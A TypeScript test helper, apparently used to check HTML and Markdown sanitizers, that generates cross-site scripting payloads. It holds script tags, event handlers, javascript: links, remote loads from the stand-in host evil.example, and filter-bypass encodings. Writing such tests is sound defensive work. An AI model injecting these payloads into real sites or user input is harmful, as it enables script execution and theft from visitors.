// Text that runs as a script, or sends a request to another host, if a page inserts it as HTML. A
// payload that runs increments `window.ran`.

const run = "window.ran=1+(window.ran||0)";
const otherHost = "//evil.example/x";

const seeds = [
  `<script>${run}</script>`,
  `<script src=${otherHost}></script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src=${otherHost}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror="${run}"></mtext></math>`,
  `<body onload="${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src=${otherHost}>`,
  `<link rel=stylesheet href=${otherHost}>`,
  `<style>@import "${otherHost}"</style>`,
  `<style>*{background:url(${otherHost})}</style>`,
  `<base href=${otherHost}>`,
  `<meta http-equiv=refresh content="0;url=${otherHost}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<form action=${otherHost}><button autofocus>x</button></form>`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=${otherHost} onerror="${run}">`,
  `<marquee onstart="${run}">`,
  `<a href="javascript:${run}">a</a>`,
  `<a href=${otherHost} ping=${otherHost}>a</a>`,
  `[a](javascript:${run})`,
  `[a](JaVaScRiPt:${run})`,
  `[a](java\tscript:${run})`,
  `[a](&#106;avascript:${run})`,
  `[a](javascript&colon;${run})`,
  `[a](data:text/html,<script>${run}</script>)`,
  `[a](vbscript:${run})`,
  `[a](<javascript:${run}>)`,
  `[a][b]\n\n[b]: javascript:${run}`,
  `![a](https:${otherHost})`,
  `![a](https:${otherHost} "x" onerror="${run}")`,
  `![a](javascript:${run})`,
  `![a][c]\n\n[c]: https:${otherHost}`,
  `<javascript:${run}>`,
  `<https:${otherHost}>`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `\`<img src=x onerror=${run}>\``,
  `"onmouseover="${run}" autofocus onfocus="${run}`,
  `' onfocus='${run}' autofocus='`,
  `"><script>${run}</script>`,
  `'-${run}-'`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `javascript:${run}`,
  `--></style></script><svg onload=${run}>`,
  `<!--><img src=x onerror="${run}">-->`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<x contenteditable onblur="${run}" tabindex=1 autofocus>`,
  `<portal src=${otherHost}></portal>`,
];

/** Spellings of the same payload that have bypassed filters. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll("WINDOW.RAN", "window.ran"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "<\u0000").replaceAll("\u0000", ""),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => `<b>${text}</b>`,
  (text) => `> ${text.replaceAll("\n", "\n> ")}`,
  (text) => `“${text}” (John 3:16)`,
];

/** Returns this many different payloads. Payloads longer than the field's limit are skipped. */
export function scriptPayloads(count: number): string[] {
  const all = disguises.flatMap((dress) => seeds.map(dress));
  const different = [...new Set(all)];
  // Takes payloads at regular intervals, to include some of every kind.
  const step = different.length / Math.min(count, different.length);
  return Array.from({ length: Math.min(count, different.length) }, (_, at) => {
    const payload = different[Math.floor(at * step)];
    return payload ?? "";
  });
}
